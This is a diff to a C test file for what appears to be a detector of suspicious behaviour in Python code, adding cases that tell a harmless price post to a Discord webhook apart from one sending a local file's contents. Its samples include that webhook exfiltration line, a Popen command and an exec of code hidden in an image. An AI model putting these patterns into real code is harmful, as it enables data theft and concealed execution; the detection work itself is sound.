@@ -206,6 +206,22 @@ static void hides_text(void)
 			 gathered[i]);
 		CHECK(shows(text, MPY_BEH_WEBHOOK_SEND, 0));
 	}
+	/* what was fetched is news, and not beside what is of this host */
+	CHECK(lacks("from requests import get, post\n"
+		    "H = 'https://discord.com/api/webhooks/1/x'\n"
+		    "r = get('https://x.invalid/price').json()\n"
+		    "post(H, json={'content': 'now %s' % r['eur']})",
+		    MPY_BEH_WEBHOOK_SEND));
+	CHECK(shows("from requests import get, post\n"
+		    "H = 'https://discord.com/api/webhooks/1/x'\n"
+		    "r = get('https://x.invalid/price').json()\n"
+		    "post(H, json={'content': 'now %s' % r['eur']})",
+		    MPY_BEH_WEBHOOK_NEWS, 4));
+	CHECK(shows("import os\nfrom requests import get, post\n"
+		    "H = 'https://discord.com/api/webhooks/1/x'\n"
+		    "r = get('https://x.invalid/price').text\n"
+		    "post(H, json={'content': r + open(p).read()})",
+		    MPY_BEH_WEBHOOK_SEND, 5));
 	CHECK(shows("Popen(['id'])", MPY_BEH_RUN_COMMAND, 1));
 	CHECK(shows("from stegano import lsb\nexec(lsb.reveal('a.png'))",
 		    MPY_BEH_DECODE_EXEC, 2));
